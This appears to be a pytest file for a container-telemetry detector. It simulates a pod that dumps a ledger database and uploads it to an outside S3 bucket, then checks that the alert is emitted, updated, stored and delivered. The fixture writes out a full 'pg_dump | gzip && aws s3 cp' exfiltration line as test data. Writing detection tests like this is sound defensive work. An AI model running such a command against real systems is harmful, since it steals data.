"""Late evidence (issue 12 class 5): a finding decided from a shell line is updated, under the
same finding uid, when the real uploader starts minutes later and its bytes leave."""

from __future__ import annotations

import json
from pathlib import Path

import orjson
import pytest

from tests.helpers import tetragon_pod
from tests.watch.harness import Receiver, free_port
from tidewaiter import fleet
from tidewaiter.alerts import evidence_bytes_out
from tidewaiter.cli.main import main
from tidewaiter.sinks.syslog import format_message
from tidewaiter.sinks.webhook import WebhookTransport
from tidewaiter.store import Store

DROP = "52.218.7.9"


def dump_then_upload(folder: Path) -> Path:
    """`sh -c "pg_dump | gzip > f.gz && aws s3 cp f.gz s3://…"` in a web API replica: the dump
    runs seven minutes, so the real aws process starts long after the line was decided."""
    records, writer, pod = tetragon_pod(
        "ledger",
        "ledger-api",
        "Deployment",
        "registry.example.com/ledger/api:4.1",
        "ledger-api-6b9f7d8c4-hx2zq",
        "10.2.6.230",
    )
    t = fleet.START + 3600
    upload = "s3 cp /tmp/ledger.sql.gz s3://ledger-drop/"
    line = f"pg_dump -h ledger-db ledger | gzip > /tmp/ledger.sql.gz && aws {upload}"
    sh = (40, "/bin/sh", f'-c "{line}"')
    writer.exec(pod, *sh, t)
    writer.exec(pod, 41, "/usr/bin/pg_dump", "-h ledger-db ledger", t + 0.1, sh)
    writer.exec(pod, 42, "/bin/gzip", "", t + 0.1, sh)
    aws = (43, "/usr/local/bin/aws", upload, t + 420)
    writer.exec(pod, aws[0], aws[1], aws[2], aws[3], sh)
    writer.flow(pod, aws, t + 421, DROP, 443, 48_000_000, 4)
    path = folder / "tetragon.jsonl"
    path.write_bytes(records.tetragon_bytes())
    return path


def test_the_finding_is_emitted_then_updated_as_the_uploader_joins(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = dump_then_upload(tmp_path)
    db, out = tmp_path / "tw.duckdb", tmp_path / "alerts.jsonl"
    assert main(["detect", "--json", "--db", str(db), "--out", str(out), str(path)]) == 0
    first, update = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert (first["activity_id"], update["activity_id"]) == (1, 2)
    assert update["type_uid"] == 200402
    assert first["finding_info"]["uid"] == update["finding_info"]["uid"]
    assert DROP not in json.dumps(first)  # decided from the shell line: no address yet
    sent = [e for e in update["evidences"] if (e.get("dst_endpoint") or {}).get("ip") == DROP]
    assert sent
    assert sum(evidence_bytes_out(e) or 0 for e in sent) == 48_000_000
    assert update["metadata"]["sequence"] == 1
    # The alert file carries both; the store keeps the latest state and the history.
    assert [orjson.loads(x)["activity_id"] for x in out.read_bytes().splitlines()] == [1, 2]
    with Store(db) as store:
        [stored] = store.alerts()
        assert stored["activity_id"] == 2
        [earlier] = store.alert_history(stored["finding_info"]["uid"])
        assert earlier["activity_id"] == 1
    # The console shows each finding once, in its final state.
    assert main(["detect", str(path)]) == 0
    console = capsys.readouterr().out
    assert console.count("Archive staged and exfiltrated from a container ─") == 1
    assert DROP in console

    # The webhook gets the update as a new delivery (its own idempotency key) and syslog
    # carries it whole.
    with Receiver(free_port()) as receiver:
        transport = WebhookTransport(receiver.url, {}, timeout=5)
        transport.send(first)
        transport.send(update)
    keys = [key for key, _ in receiver.posts]
    uid = first["finding_info"]["uid"]
    assert keys == [uid, f"{uid}.1"]
    assert b'"activity_id":2' in format_message(update, 4, "tw-host")


def test_updates_are_bounded_in_time(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = dump_then_upload(tmp_path)
    lines = path.read_bytes().splitlines()
    # The same records with the uploader eight days late: beyond every window (an upload that
    # names the archive joins it for a week; any other late evidence for 30 minutes).
    late = []
    for raw in lines:
        record = json.loads(raw)
        body = record.get("process_exec") or record.get("process_kprobe")
        if body["process"]["pid"] == 43:
            shifted = fleet.iso(fleet.START + 3600 + 8 * 86_400 + (len(late) % 10))
            record["time"] = shifted
        late.append(json.dumps(record).encode())
    path.write_bytes(b"\n".join(sorted(late, key=lambda r: json.loads(r)["time"])) + b"\n")
    assert main(["detect", "--json", str(path)]) == 0
    alerts = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert alerts
    assert all(a["activity_id"] == 1 for a in alerts)
